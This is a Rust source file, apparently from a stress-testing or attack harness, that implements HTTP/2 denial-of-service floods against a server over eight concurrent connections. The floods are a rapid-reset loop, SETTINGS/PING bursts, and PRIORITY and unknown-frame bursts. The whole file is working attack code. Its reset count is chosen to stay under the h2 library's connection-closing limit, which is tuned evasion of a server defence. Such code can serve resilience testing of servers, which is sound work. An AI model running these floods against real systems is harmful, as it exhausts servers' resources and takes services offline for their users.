//! HTTP/2 frames that cost their receiver more than their sender.

use std::io;
use std::sync::Arc;
use std::time::Duration;

use tokio::time::timeout;

use crate::ground::Ground;
use crate::http2::{
    END_HEADERS, HEADERS, Http2, INITIAL_WINDOW_SIZE, PING, PRIORITY, RST_STREAM, SETTINGS, frame, review_header,
    settings_payload,
};

const CONNECTIONS: usize = 8;
/// Frames of one write.
const BURST: u32 = 50;
/// h2 ends a connection with more that wait for their acceptance than 20.
const RESETS: u32 = 8;
/// A type that RFC 9113 does not know, so that it must be ignored.
const UNKNOWN: u8 = 0x7f;

pub async fn rapid_reset(ground: Arc<Ground>) {
    let client = |ground, _| async move {
        let mut http2 = Http2::open(ground, &[]).await?;
        loop {
            let mut frames = Vec::new();
            for _ in 0..RESETS {
                let stream = http2.new_stream();
                frames.extend(frame(HEADERS, END_HEADERS, stream, &review_header(100)));
                frames.extend(frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes()));
            }
            // Its answer says that the resets have been looked at.
            frames.extend(frame(PING, 0, 0, &[0; 8]));
            http2.send(&frames).await?;
            while http2.step().await? != PING {}
        }
    };
    ground.swarm(CONNECTIONS, client).await;
}

pub async fn settings_and_ping(ground: Arc<Ground>) {
    let burst = |_: &mut Http2, round: u32| {
        let settings = settings_payload(&[(INITIAL_WINDOW_SIZE, 1000 + round % 2)]);
        let mut frames = Vec::new();
        for number in 0..BURST {
            frames.extend(frame(SETTINGS, 0, 0, &settings));
            frames.extend(frame(PING, 0, 0, &u64::from(number).to_be_bytes()));
        }
        frames
    };
    flood(ground, burst).await;
}

/// Frames that a server has to read and may forget.
pub async fn ignored(ground: Arc<Ground>) {
    let burst = |_: &mut Http2, _| {
        let priority = frame(PRIORITY, 0, 1, &[0, 0, 0, 3, 16]);
        [priority, frame(UNKNOWN, 0, 0, &[])].concat().repeat(BURST as usize)
    };
    flood(ground, burst).await;
}

/// Sends bursts as fast as they are taken; what comes back is hardly read.
async fn flood(ground: Arc<Ground>, burst: fn(&mut Http2, u32) -> Vec<u8>) {
    let client = move |ground, _| attack(ground, burst);
    ground.swarm(CONNECTIONS, client).await;
}

async fn attack(ground: Arc<Ground>, burst: fn(&mut Http2, u32) -> Vec<u8>) -> io::Result<()> {
    let mut http2 = Http2::open(ground, &[]).await?;
    for round in 0.. {
        let frames = burst(&mut http2, round);
        http2.send(&frames).await?;
        if let Ok(closed) = timeout(Duration::ZERO, http2.hold()).await {
            return closed;
        }
        tokio::task::yield_now().await;
    }
    Ok(())
}
